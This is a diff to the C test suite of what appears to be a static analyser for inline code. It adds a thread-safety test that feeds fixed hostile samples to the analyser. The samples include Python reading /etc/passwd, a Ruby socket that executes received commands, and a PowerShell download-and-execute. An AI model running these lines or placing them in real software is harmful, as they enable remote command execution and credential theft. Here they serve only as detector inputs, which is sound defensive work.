@@ -19,6 +19,7 @@
  *             eval socket parse_error limit limit_depth limit_count limit_work
  *   error     text the first parse error must contain
  */
+#include <pthread.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -167,12 +168,7 @@ static void inline_case(pe_case_check *k, void *ctx)
     for (size_t f = 0; f < sizeof(result_flags) / sizeof(result_flags[0]); f++)
         if (r->flags & result_flags[f].bit)
             pe_sb_printf(&sb, "%s%s", sb.len ? " " : "", result_flags[f].name);
-    const char *want = pe_case_value(k->c, "flags");
-    char *w = pe_case_sorted_words(want ? want : ""), *g = pe_case_sorted_words(pe_sb_str(&sb));
-    if (strcmp(w, g) != 0)
-        pe_case_mismatch(k, "flags", w, g);
-    free(w);
-    free(g);
+    pe_case_expect_set(k, "flags", pe_sb_str(&sb));
     const char *err = pe_case_value(k->c, "error");
     if (err && (!r->error || !strstr(r->error, err)))
         pe_case_mismatch(k, "error", err, r->error ? r->error : "(none)");
@@ -575,6 +571,60 @@ START_TEST(api_tables_are_sorted)
 }
 END_TEST
 
+/* The same analyses from several threads at once give the same results:
+ * nothing is shared but the constant tables. */
+static const struct {
+    pe_lang lang;
+    const char *code;
+} thread_code[] = {
+    {PE_LANG_PYTHON, "import os as o; o.system('id'); open('/etc/passwd')"},
+    {PE_LANG_JS, "const {execSync: x} = require('child_process'); x(atob('aWQ='))"},
+    {PE_LANG_RUBY, "s = TCPSocket.new('10.0.0.1', 1); exec(s.gets)"},
+    {PE_LANG_POWERSHELL, "iex (New-Object Net.WebClient).DownloadString('http://x')"},
+};
+#define NTHREAD_CODE (sizeof(thread_code) / sizeof(thread_code[0]))
+
+static void *thread_main(void *arg)
+{
+    const char **expected = arg;
+    for (int it = 0; it < 300; it++)
+        for (size_t k = 0; k < NTHREAD_CODE; k++) {
+            pe_arena a = PE_ARENA_INIT;
+            pe_inline_result *r = NULL;
+            int bad = pe_inline_analyze(&r, thread_code[k].lang, thread_code[k].code,
+                                        strlen(thread_code[k].code), &a) != 0 ||
+                      r->nitems == 0 || strcmp(r->items[0].value.s, expected[k]) != 0;
+            pe_arena_free(&a);
+            if (bad)
+                return (void *)1;
+        }
+    return NULL;
+}
+
+START_TEST(pure_across_threads)
+{
+    pe_arena a = PE_ARENA_INIT;
+    const char *expected[NTHREAD_CODE];
+    for (size_t k = 0; k < NTHREAD_CODE; k++) {
+        pe_inline_result *r = NULL;
+        ck_assert_int_eq(pe_inline_analyze(&r, thread_code[k].lang, thread_code[k].code,
+                                           strlen(thread_code[k].code), &a),
+                         0);
+        ck_assert_uint_gt(r->nitems, 0);
+        expected[k] = r->items[0].value.s;
+    }
+    pthread_t t[4];
+    for (int i = 0; i < 4; i++)
+        ck_assert_int_eq(pthread_create(&t[i], NULL, thread_main, expected), 0);
+    for (int i = 0; i < 4; i++) {
+        void *ret = NULL;
+        pthread_join(t[i], &ret);
+        ck_assert_ptr_null(ret);
+    }
+    pe_arena_free(&a);
+}
+END_TEST
+
 static double now_s(void)
 {
     struct timespec ts;
@@ -636,6 +686,7 @@ int main(void)
     tcase_add_test(tc, limits_are_reported);
     tcase_add_test(tc, api_edges);
     tcase_add_test(tc, api_tables_are_sorted);
+    tcase_add_test(tc, pure_across_threads);
     tcase_add_test(tc, timing_report);
     tcase_set_timeout(tc, 300);
     suite_add_tcase(s, tc);
